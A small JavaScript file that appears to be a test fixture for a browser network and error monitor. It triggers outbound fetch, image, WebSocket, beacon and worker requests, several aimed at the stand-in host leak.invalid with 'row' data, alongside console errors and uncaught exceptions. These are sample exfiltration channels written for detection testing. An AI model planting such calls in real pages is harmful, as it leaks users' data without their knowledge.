// One way out for each thing that the watch must catch.
const inWorker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
const ways = {
  outside: () => fetch('http://leak.invalid/?row=1').catch(() => {}),
  later: () => fetch('./later.txt').catch(() => {}),
  worker: () => inWorker(`fetch(${JSON.stringify(new URL('later.txt', document.baseURI).href)}).catch(() => {})`),
  image: () => {
    new Image().src = 'http://leak.invalid/row.png'
  },
  beacon: () => navigator.sendBeacon('./beacon', 'row'),
  workerSocket: () => inWorker(`new WebSocket('ws://leak.invalid/')`),
  socket: () => new WebSocket('ws://leak.invalid/'),
  // biome-ignore lint/suspicious/noConsole: the watch must hear it
  complaint: () => console.error('something is wrong'),
  crash: () => {
    setTimeout(() => {
      throw new Error('unexpected')
    })
  },
}
globalThis.leak = (way) => void ways[way]()
